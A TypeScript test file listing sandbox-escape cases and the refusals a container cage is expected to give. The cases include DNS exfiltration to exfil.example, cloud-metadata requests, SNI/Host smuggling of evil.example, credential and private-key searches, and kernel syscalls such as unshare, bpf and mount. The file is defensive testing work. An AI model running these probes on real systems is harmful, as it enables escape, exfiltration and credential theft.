import {sidecarPort} from '../../core/layout.js'
import type {Attack} from './cases.js'

const PROXY = sidecarPort.explicit
const refused =
  /^error: (PermissionError|OSError|ConnectionRefusedError|ConnectionResetError|BrokenPipeError)/
const own = (id: string, attack: string, expect: string, verdict: RegExp, act: Attack['do']): Attack => ({
  id,
  class: id.split('-')[0] ?? id,
  where: 'task',
  attack,
  expect,
  verdict,
  do: act,
})
const bySeccomp = (attack: Attack): Attack => ({...attack, layer: 'seccomp'})
const refusal = 'the kernel refuses'

/** What no canary can hear: the answer is the kernel's or the sidecar's own. */
export const inTask: readonly Attack[] = [
  own('NET-1', 'data in the labels of a name', 'the name does not exist', /^NXDOMAIN/, [
    'dns',
    'secret-data.exfil.example',
  ]),
  own('NET-2', 'the same at a public resolver', 'the name does not exist', /^NXDOMAIN/, [
    'dns',
    'secret-data.exfil.example',
    '8.8.8.8',
  ]),
  own('NET-5.tcp', 'TCP over IPv6', refusal, refused, ['tcp6', '2001:db8::1', 443, 'leak']),
  own('NET-5.udp', 'UDP over IPv6', refusal, refused, ['udp', '2001:db8::1', 443, 'leak']),
  bySeccomp(own('NET-10', 'io_uring', refusal, /^error: /, ['call', 425, 4, 'buffer'])),
  bySeccomp(own('NET-11.vsock', 'a vsock socket', refusal, /^error: /, ['opens', 40, 1, 0])),
  own('NET-11.packet', 'a packet socket', refusal, /^error: /, ['opens', 17, 3, 3]),
  own('NET-11.raw', 'a raw socket', refusal, /^error: /, ['opens', 2, 3, 1]),
  own('NET-11.ping', 'a ping socket', refusal, /^error: /, ['opens', 2, 2, 1]),
  own(
    'ADDR-1',
    'HTTP to the metadata address',
    'the sidecar denies it or nobody answers',
    /^(answered: (HTTP\/1\.1 4\d\d .*cage_denied.*)?$|error: )/s,
    [
      'tcp',
      '169.254.169.254',
      80,
      'GET /latest/meta-data/ HTTP/1.1\r\nHost: 169.254.169.254\r\nConnection: close\r\n\r\n',
    ],
  ),
  own(
    'TLS-2',
    'CONNECT to an allowed name, another name in TLS',
    'refused',
    /^(refused$|error: |answered: HTTP\/1\.1 4\d\d )/,
    [
      'https',
      'git.cage.internal',
      443,
      'evil.example',
      'GET /ready HTTP/1.1\r\nHost: git.cage.internal\r\nConnection: close\r\n\r\n',
      ['127.0.0.1', PROXY],
    ],
  ),
  own('TLS-5', 'an allowed name in TLS, another in Host', 'refused', /^answered: HTTP\/1\.1 4\d\d /, [
    'https',
    'git.cage.internal',
    443,
    'git.cage.internal',
    'GET /ready HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n',
  ]),
  own('CRED-11', 'search environment, arguments and files for the handle', 'not found', /^not found$/, [
    'search',
    'cgt_',
  ]),
  own('CRED-1', 'search them for a private key', 'not found', /^not found$/, ['search', 'PRIVATE KEY-----']),
  own('ID-10', 'look for a token of the cluster', 'there is none', /^[1-9]/, [
    'shell',
    'ls /var/run/secrets/kubernetes.io',
  ]),
  own('POD-1', 'a session by exec', 'has no new privileges', /^1$/, ['status', 'NoNewPrivs']),
  own('POD-1.capabilities', 'a session by exec', 'has no capability', /^0+$/, ['status', 'CapBnd']),
  own('POD-2', 'the user of the task', 'is not root', /^0 [1-9]/, ['shell', 'id -u']),
  bySeccomp(
    own('POD-9.unshare', 'a user namespace of its own', refusal, /^error: /, ['call', 272, 0x10000000]),
  ),
  own('POD-9.mount', 'mount', refusal, /^error: /, ['call', 165, 'buffer', 'buffer', 'buffer', 0, 0]),
  own('POD-9.bpf', 'bpf', refusal, /^error: /, ['call', 321, 5, 'buffer', 48]),
  bySeccomp(own('POD-9.keys', 'a key in the kernel’s keyring', refusal, /^error: /, ['call', 250, 0, -3, 1])),
  own('POD-9.root', 'write to the root file system', refusal, /^error: /, ['root', '/usr/cage-verify']),
  own('POD-12', 'look for the sockets of kubelet and containerd', 'they are not there', /^0 0$/, [
    'shell',
    'ls /run/containerd /var/lib/kubelet 2>/dev/null | wc -l',
  ]),
]
